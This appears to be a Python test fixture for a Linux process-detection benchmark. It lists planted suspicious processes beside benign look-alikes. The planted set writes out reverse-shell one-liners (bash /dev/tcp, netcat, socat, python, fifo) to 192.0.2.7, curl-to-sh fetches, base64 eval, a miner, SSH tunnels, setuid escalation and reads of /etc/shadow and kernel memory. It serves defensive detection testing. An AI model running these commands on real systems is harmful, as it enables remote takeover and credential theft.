"""The processes of the guest: what is planted, and what is ordinary and looks alike.

It runs in the guest and imports nothing but the standard library and what is put beside it.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING

from benchmarks.linux_inside import Kernel
from tests.playbooks.guest_acts import (
    BASH,
    HERE,
    LONG,
    PORT,
    PYTHON,
    SH,
    Act,
    as_user,
    bpf,
    compiled,
    connected,
    data_in_memory,
    in_turn,
    injected,
    listening,
    loaded,
    loaded_from_memory,
    on_console,
    on_pair,
    on_pipe,
    on_socket,
    on_terminal,
    onto,
    opened,
    packets,
    program,
    protected,
    renamed,
    ring_of_packets,
    run,
    run_from_memory,
    script,
    tracing,
    wait_as,
    with_child,
)

if TYPE_CHECKING:
    from collections.abc import Mapping

_BECOME_ROOT = "import os; os.setresgid(0, 0, 0); os.setresuid(0, 0, 0); "
_SUBREAPER = 36  # PR_SET_CHILD_SUBREAPER in prctl.h
_REVERSE_PYTHON = (
    f'import socket,os,pty;s=socket.socket();s.connect(("{HERE}",{PORT}));'
    '[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("sh")'
)
_REVERSE_FIFO = "rm -f /run/f; mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /run/f"
_SLEEP_ENCODED = "c2xlZXAgMTAwMDAwMAo="
"""`sleep 1000000`, of base64."""


def _setuid(place: str, then: str, first: str = _BECOME_ROOT) -> Act:
    """Be started by a user, become root altogether, and do something then."""

    def act() -> object:
        program(place, os.path.realpath(PYTHON))
        Path(place).chmod(0o4755)
        return as_user(run(place, place, "-ISB", "-c", first + then))()

    return act


def _of_user(child: Act) -> Act:
    """Be a user's program that has started something."""
    job = "/usr/bin/job"
    return with_child(child, in_turn(lambda: program(job), as_user(run(job))))


def _adopting() -> object:
    """Be a user's program to which processes come whose parent has ended."""
    Kernel().call("prctl", _SUBREAPER, 1, 0, 0, 0)
    session = program("/usr/bin/session")
    program("/usr/bin/daemon")
    if not os.fork():
        then = "os.fork() and os._exit(0); os.execv('/usr/bin/daemon', ['daemon'])"
        _setuid("/usr/bin/doas", then)()
    os.wait()
    return as_user(run(session))()


def _deleted(place: str, *, has_name: bool = True) -> Act:
    """Hold a file open that is deleted, or never had a name."""

    def act() -> object:
        if not has_name:
            return os.open(place, os.O_TMPFILE | os.O_RDWR)
        file = os.open(script(place, "secret\n"), os.O_RDWR)
        Path(place).unlink()
        return file

    return act


def _input(place: str) -> Act:
    """Have a file with a command as input."""
    return lambda: onto(os.open(script(place, f"sleep {LONG}\nexit\n"), os.O_RDONLY), 0)


def _output(place: str) -> Act:
    """Have a file as output."""
    return lambda: onto(os.open(place, os.O_WRONLY | os.O_CREAT), 1)


def _shell(command: str, place: str = SH) -> Act:
    """Have a shell do a command."""
    return run(place, place.rpartition("/")[2], "-c", command)


def _script(place: str, *start: str) -> Act:
    """Have an interpreter run a script that waits, or, without one, run the script itself."""

    def act() -> object:
        if place.endswith(".py"):
            text = f"import time\ntime.sleep({LONG})\n"
        else:
            text = f"#!{SH}\nsleep {LONG}\nexit\n"  # so that the shell stays
        script(place, text)
        return run(start[0], *start[1:], place)() if start else run(place)()

    return act


_IN_HERE: Mapping[str, Act] = {
    "shell-on-socket": in_turn(on_socket(0, 1, 2), run(SH, "sh", "-i")),
    "python-on-socket": in_turn(on_socket(0, 1, 2), run(PYTHON, "python3", "-i")),
    "reverse-bash": _shell(f"bash -i >& /dev/tcp/{HERE}/{PORT} 0>&1", BASH),
    "reverse-bash-list": _shell(f"bash -i >& /dev/tcp/{HERE}/{PORT} 0>&1; true", BASH),
    "reverse-bash-read": _shell(
        f"exec 5<>/dev/tcp/{HERE}/{PORT}; cat <&5 | while read a; do $a 2>&5 >&5; done", BASH
    ),
    "reverse-bash-instead": _shell(f"exec bash -i &>/dev/tcp/{HERE}/{PORT} <&1", BASH),
    "reverse-telnet": _shell("telnet 192.0.2.7 4444 | sh | telnet 192.0.2.7 4445"),
    "reverse-python": run(PYTHON, "python3", "-c", _REVERSE_PYTHON),
    "reverse-fifo": _shell(_REVERSE_FIFO),
    "reverse-netcat": wait_as("/usr/bin/nc", "nc", "192.0.2.7", "4444", "-e", "/bin/sh"),
    "reverse-socat": wait_as(
        "/usr/bin/socat", "socat", "exec:bash -li,pty,stderr,setsid", "tcp:192.0.2.7:4444"
    ),
    "shell-of-nginx": with_child(
        in_turn(on_pipe, run(SH, "sh")), wait_as("/usr/sbin/nginx", "nginx: worker process")
    ),
    "curl-to-sh": _shell("curl -fsSL http://192.0.2.7/x | sh"),
    "curl-in-bash": _shell("bash <(curl -s http://192.0.2.7/x); true", BASH),
    "curl-in-sh": _shell('sh -c "$(curl -fsSL http://192.0.2.7/x)"'),
    "base64-to-sh": _shell(f"echo {_SLEEP_ENCODED} | base64 -d | sh"),
    "eval-base64": _shell(f"eval $(echo {_SLEEP_ENCODED} | base64 -d); true"),
    "miner": wait_as("/usr/bin/xmrig"),
    "miner-renamed": wait_as("/usr/bin/a", "./a", "-o", "stratum+tcp://192.0.2.7:3333"),
    "ssh-remote": wait_as("/usr/bin/ssh", "ssh", "-N", "-R", "2222:localhost:22", "u@192.0.2.7"),
    "ssh-proxy": wait_as("/usr/bin/ssh", "ssh", "-fND", "1080", "u@192.0.2.7"),
    "chisel": wait_as("/usr/bin/chisel", "chisel", "client", "192.0.2.7:80", "R:socks"),
    "sshd-elsewhere": wait_as("/opt/sshd", "sshd: /usr/sbin/sshd -D [listener]"),
    "cron-of-python": renamed("cron"),
    "kworker": renamed("kworker/0:9"),
    "brackets": wait_as("/usr/bin/worker", "[kworker/u4:0]"),
}
"""What commands, names and families are."""

_PROGRAMS: Mapping[str, Act] = {
    "program-in-tmp": wait_as("/tmp/a"),
    "program-in-shm": wait_as("/dev/shm/b"),
    "program-hidden": wait_as("/var/lib/.x/c"),
    "program-deleted": wait_as("/usr/local/bin/gone"),
    "program-deleted-in-tmp": wait_as("/var/tmp/gone"),
    "program-in-memfd": run_from_memory,
    "script-by-sh": _script("/tmp/x.sh", SH, "sh", "-e"),
    "script-itself": _script("/var/tmp/y.sh"),
    "script-by-python": _script("/dev/shm/z.py", PYTHON, "python3", "-u"),
    "script-in-folder": in_turn(lambda: os.chdir("/tmp"), _script("w.sh", SH, "sh")),
    "script-as-input": in_turn(_input("/tmp/v.sh"), run(SH, "sh", "-s")),
    "root-of-user": _of_user(_setuid("/usr/local/bin/helper", f"import time; time.sleep({LONG})")),
    "root-adopted": _adopting,
    "memory-executable": compiled,
    "memory-injected": injected,
    "stack-executable": protected("[stack]"),
    "stack-page-executable": protected("[stack]", 1),
    "heap-executable": protected("[heap]"),
    "heap-page-executable": protected("[heap]", 1),
    "library-in-memfd": loaded_from_memory,
    "library-deleted": loaded("/usr/local/lib/libgone.so", is_deleted=True),
    "library-in-tmp": loaded("/tmp/libx.so"),
    "library-in-opt": loaded("/opt/lib/libx.so"),
    "library-preloaded": run(
        "/usr/bin/sleep", "sleep", LONG, environment={"LD_PRELOAD": "/opt/lib/libx.so"}
    ),
    "memory-of-other": opened("/proc/1/mem", os.O_RDWR),
    "memory-of-thread": opened("/proc/1/task/1/mem"),
    "memory-of-kernel": opened("/proc/kcore"),
    "memory-of-machine": opened("/dev/mem"),
    "passwords": opened("/etc/shadow"),
    "keyboard": opened("/dev/input/event0"),
    "packets": packets,
    "packets-in-ring": ring_of_packets,
    "shell-of-setuid": _setuid("/usr/local/bin/backup", f"import time; time.sleep({LONG})", ""),
    "tracer": in_turn(renamed("debug"), tracing(wait_as("/usr/bin/job"))),
    "bpf": bpf,
    "file-deleted": _deleted("/var/log/gone.log"),
    "file-without-name": _deleted("/tmp", has_name=False),
}
"""What programs, memory and files are."""

PLANTED: Mapping[str, Act] = {**_IN_HERE, **_PROGRAMS}
BY_KERNEL = "/usr/sbin/helper"
"""The program that the kernel starts; it is planted, too."""
DELETED = ("/usr/local/bin/gone", "/var/tmp/gone")
"""What is deleted once all run."""

UNFOUND: Mapping[str, Act] = {
    # Python closes its script, and memq does not know in which folder a process is.
    "script-by-python-in-folder": in_turn(
        lambda: os.chdir("/dev/shm"), _script("u.py", PYTHON, "python3")
    ),
}
"""What a rule should find, and none can; each with the reason."""

FIRST: Mapping[str, Act] = {"listener": listening}
"""What others need."""
ORDINARY: Mapping[str, Act] = {
    "sh-on-console": in_turn(on_console, run(SH, "sh")),
    "sh-on-pipe": in_turn(on_pipe, run(SH, "sh")),
    "bash-on-terminal": in_turn(on_terminal, run(BASH, "bash", "-i")),
    "python-on-terminal": in_turn(on_terminal, run(PYTHON, "python3")),
    "sh-input-socket": in_turn(on_pair(0), run(SH, "sh")),
    "bash-asks-port": _shell(f"exec 3<>/dev/tcp/{HERE}/{PORT}; cat <&3; true", BASH),
    "bash-reads-port": _shell(
        f"exec 3<>/dev/tcp/{HERE}/{PORT}; while read a; do echo $a; done <&3; true", BASH
    ),
    "python-script": _script("/usr/lib/service.py", PYTHON, "python3"),
    "python-client": connected,
    "sh-script": _script("/opt/lab/job.sh", SH, "sh"),
    "sh-input-file": in_turn(_input("/tmp/data"), run(SH, "sh", "-c", f"sleep {LONG}; true")),
    "sh-output-file": in_turn(
        _output("/tmp/out"), run(SH, "sh", "-c", f"{{ sleep {LONG}; }} >/dev/null; true")
    ),
    "curl-to-file": _shell("curl -fsSL http://192.0.2.7/x -o /tmp/x; true"),
    "nginx": with_child(
        wait_as("/usr/sbin/nginx", "nginx: worker process"),
        wait_as("/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx"),
    ),
    "sshd": wait_as("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
    "sshd-command": with_child(
        in_turn(on_pair(0, 1), run(BASH, "bash", "-c", "cat; true")),
        wait_as("/usr/sbin/sshd", "sshd: u@notty"),
    ),
    "cron": wait_as("/usr/sbin/cron", "/usr/sbin/cron", "-f"),
    "celery": wait_as("/usr/bin/celeryd", "[celeryd: worker@host:MainProcess] -active- (worker)"),
    "postgres": wait_as("/usr/lib/postgresql/bin/postgres", "postgres: checkpointer"),
    "ssh": wait_as("/usr/bin/ssh", "ssh", "-L", "5432:localhost:5432", "u@192.0.2.7"),
    "cc": wait_as("/usr/bin/cc", "cc", "-o", "/tmp/a.out", "/tmp/a.c"),
    "sleep": run("/usr/bin/sleep", "sleep", LONG),
    "user": as_user(run("/usr/bin/sleep", "sleep", LONG)),
    "sudo": _of_user(_setuid("/usr/bin/sudo", f"import time; time.sleep({LONG})")),
    "memfd-of-data": data_in_memory,
    "library-of-site": loaded("/usr/local/lib/libx.so"),
    "passwd": opened("/etc/passwd"),
    "null-and-maps": in_turn(opened("/dev/null", os.O_RDWR), opened("/proc/1/maps")),
    "file": opened("/var/log/kept.log"),
}


def tools() -> None:
    """Put programs where commands look for them, and files that are opened."""
    for name in ("curl", "nc", "telnet"):
        program(f"/usr/bin/{name}")
    for place in ("/etc/passwd", "/etc/shadow", "/var/log/kept.log"):
        script(place, "root:*:0:0:root:/:/usr/bin/sh\n")
    program("/bin/sh", SH)
